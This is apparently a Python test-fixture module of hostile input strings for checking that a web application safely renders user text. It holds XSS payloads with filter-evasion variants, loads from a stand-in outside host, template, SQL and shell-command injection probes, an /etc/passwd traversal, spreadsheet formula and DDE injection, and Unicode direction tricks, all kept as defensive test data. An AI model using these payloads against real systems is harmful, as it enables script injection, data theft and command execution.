"""Texts that try to be more than text. Whatever they reach for is at `OUTSIDE`; whatever runs sets `RAN`."""

from __future__ import annotations

OUTSIDE = "buiten.example"
RAN = "wgeRan"

_RUN = f"window.{RAN}=1"
_AT = f"http://{OUTSIDE}"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AT}/a.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</p></div></section><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script><style>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<SCRIPT\n>{_RUN}</SCRIPT\n>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
)
HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f"<img src='x' onerror='{_RUN}'>",
    f'<img src="x" onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<div style='position:fixed;inset:0' onmouseover={_RUN}>over alles</div>",
    f"<marquee onstart={_RUN}>loopt</marquee>",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    f'" autofocus onfocus={_RUN} x="',
    f"'><img src=x onerror={_RUN}>",
    f'"><img src={_AT}/q.png>',
    f"` onclick=`{_RUN}",
    '" style="position:fixed;inset:0;background:red',
    f'x" title="<img src={_AT}/t.png>',
)
LINKS = (
    f"<a href=javascript:{_RUN}>klik</a>",
    f"<a href='java\tscript:{_RUN}'>klik</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>klik</a>",
    f"javascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cu{RAN}",
    f"{_AT}/verslag.html",
    f"//{OUTSIDE}/protocol",
    f"<form action={_AT}><input type=submit value=Verder></form>",
    f"<meta http-equiv=refresh content='0;url={_AT}'>",
    f"<base href={_AT}/>",
    f"<link rel=stylesheet href={_AT}/s.css>",
    f"<iframe src={_AT}></iframe>",
    f"<object data={_AT}/o.swf></object>",
    f"<style>@import url({_AT}/i.css); body {{ display: none }}</style>",
)
MARKDOWN = (
    f"![plaatje]({_AT}/p.png)",
    f"[klik](javascript:{_RUN})",
    f'[klik]({_AT} "titel")',
    f"<{_AT}/auto>",
    f'[ref]: {_AT}/ref "titel"',
    "# Kop **vet** _schuin_ `code` ~~weg~~",
    "| a | b |\n|---|---|\n| c | d |",
    ":red[rood] :material/delete: $\\frac{1}{0}$ $$x$$",
    "- [x] klaar\n> citaat\n***",
    "```html\n<b>vet</b>\n```",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;",
)
TEMPLATES = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{0} {theme} %s %(naam)s %n",
    "{{constructor.constructor('window.wgeRan=1')()}}",
    "$(touch /tmp/x) `id` ; DROP TABLE verslagen; --",
    "' OR '1'='1\" } INSERT DATA { <a> <b> <c> } #",
    "../../../../etc/passwd\\..\\..",
)
DIRECTIONS = (
    "\u202egnaleid\u202c omgekeerd",
    "\u2066\u2067\u2068 nooit gesloten",
    "مَن المسؤول عن الرعاية؟ zorg",
    "ע\u05b0ב\u05e8\u05b4\u05d9\u05ea \u200fen Nederlands",
    "Z\u0334\u0335\u0336\u0337a\u0338\u0321\u0322l\u0327\u0328g\u0334o\u0335",
    "z\u200bo\u200br\u200bg\u00ad\ufeff\u2060",
    "👩‍👩‍👧‍👦🏳️‍🌈 \U0001d4b5\U0001d45c\U0001d4c7 \uff3a\uff4f\uff52",
)
FORMULAS = (
    "=1+1",
    f'=HYPERLINK("{_AT}","klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    f'=IMPORTXML("{_AT}";"//a")',
    "\t=1+1",
)
LONG = (
    "W" * 400,
    "zeer-" * 120,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "lang verhaal " * 60,
)
HOSTILE: tuple[str, ...] = (
    *SCRIPTS, *HANDLERS, *ATTRIBUTES, *LINKS, *MARKDOWN, *TEMPLATES, *DIRECTIONS, *FORMULAS, *LONG,
)  # fmt: skip
